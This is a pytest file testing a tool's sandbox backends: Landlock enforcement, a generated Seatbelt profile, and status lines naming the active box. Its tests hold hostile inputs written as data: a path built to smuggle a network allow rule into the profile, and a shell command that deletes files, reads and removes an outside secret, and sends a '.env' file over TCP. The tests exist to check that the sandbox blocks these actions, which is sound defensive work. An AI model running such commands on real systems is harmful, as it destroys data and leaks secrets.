"""The second backends (workspace/box.py): Landlock run for real where the kernel has it, the macOS
Seatbelt profile checked as generated text, and which box is in use said in one line."""

from __future__ import annotations

import asyncio
import os
import sys
from pathlib import Path

import pytest

from duckflow.workspace import box, landlock, seatbelt


def test_the_seatbelt_profile_denies_by_default_and_binds_paths_as_parameters() -> None:
    odd = '/Users/a "b")(allow network*)'
    text, params = seatbelt.profile(["/tmp/home", odd], ["/ws/mine.txt"])
    assert text.startswith("(version 1)\n(deny default)\n")
    assert "network" not in text  # nothing allows the network: deny default holds
    assert odd not in text and "(allow file-write* (subpath (param \"WRITE_1\")))" in text
    assert "(allow file-write-data (literal (param \"FILE_0\")))" in text
    assert params == ["-D", "WRITE_0=/tmp/home", "-D", f"WRITE_1={odd}", "-D", "FILE_0=/ws/mine.txt"]
    assert "(allow file-write*" not in text.replace('(allow file-write* (subpath (param "WRITE_', "")
    argv = seatbelt.argv(["python3", "t.py"], ["/tmp/home"], [])
    assert argv[:2] == ["/usr/bin/sandbox-exec", "-p"] and argv[-3:] == ["--", "python3", "t.py"]


def test_which_box_is_said_in_one_line() -> None:
    assert box.backend("none") is None
    line = box.describe("none")
    assert line.startswith("none (") and "ask you" in line and "\n" not in line
    name = box.backend("auto")
    assert box.describe("auto").startswith(f"{name}: " if name else "none (")


@pytest.mark.skipif(not landlock.usable(), reason="the kernel has no Landlock ABI 4 (Linux 6.7+)")
def test_landlock_box_writes_only_covered_files_and_home_and_has_no_tcp(
        tmp_path: Path, listener: tuple[int, list[bytes]], monkeypatch: pytest.MonkeyPatch) -> None:
    from duckflow.workspace.shell import run_command

    monkeypatch.setenv("DUCKFLOW_HOME", str(tmp_path / "dh"))
    port, got = listener
    ws = tmp_path / "ws"
    ws.mkdir()
    (ws / "keep.txt").write_text("precious\n")
    (ws / "mine.txt").write_text("old\n")
    (ws / ".env").write_text("TOKEN=x\n")
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "secret.txt").write_text("TOPSECRET")
    folder = tmp_path / "boxdir"
    folder.mkdir()
    (folder / "covered").write_text("mine.txt\n")
    send = (f"import socket; s = socket.create_connection(('127.0.0.1', {port}), timeout=2); "
            "s.sendall(open('.env', 'rb').read())")
    cmd = (f"echo bad > keep.txt; rm -f keep.txt; echo new > mine.txt; echo r > report.txt; "
           f"echo h > $HOME/x && echo home-ok; cat {outside}/secret.txt; rm -rf {outside}; "
           f"{sys.executable} -c \"{send}\" 2>/dev/null || echo no-tcp")
    result = asyncio.run(run_command(ws, cmd, timeout=30, limit=20_000, sandbox="landlock",
                                     staging=str(folder)))
    assert result.mode == "landlock", result
    assert "home-ok" in result.stdout and "no-tcp" in result.stdout, result
    assert (ws / "keep.txt").read_text() == "precious\n" and (ws / "mine.txt").read_text() == "new\n"
    assert not (ws / "report.txt").exists()  # Landlock has no copy-on-write: no new files
    assert (outside / "secret.txt").read_text() == "TOPSECRET" and got == []
    assert "TOPSECRET" not in result.stdout  # the host outside the workspace is not read


def test_status_and_config_show_say_which_box_is_in_use(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
    import json

    from duckflow.channels.cli.main import main

    monkeypatch.setenv("DUCKFLOW_HOME", str(tmp_path / "home"))
    cfg = tmp_path / "c.toml"
    cfg.write_text('[workspace]\nsandbox = "none"\n')
    monkeypatch.setenv("DUCKFLOW_CONFIG", str(cfg))
    assert main(["config", "show"]) == 0
    assert 'box for auto-approved code (workspace.sandbox): none (workspace.sandbox = "none")' in capsys.readouterr().out
    assert main(["config", "show", "--json"]) == 0
    assert json.loads(capsys.readouterr().out)["_box"]["value"].startswith("none (")
    main(["status", "-w", str(tmp_path)])  # no session yet: the box is said all the same
    assert "box for auto-approved code: none (" in capsys.readouterr().out
    monkeypatch.setenv("DUCKFLOW_CONFIG", os.devnull)
    assert main(["config", "show"]) == 0
    name = box.backend("auto")
    said = capsys.readouterr().out
    assert f"(workspace.sandbox): {name}: " in said if name else "(workspace.sandbox): none (" in said
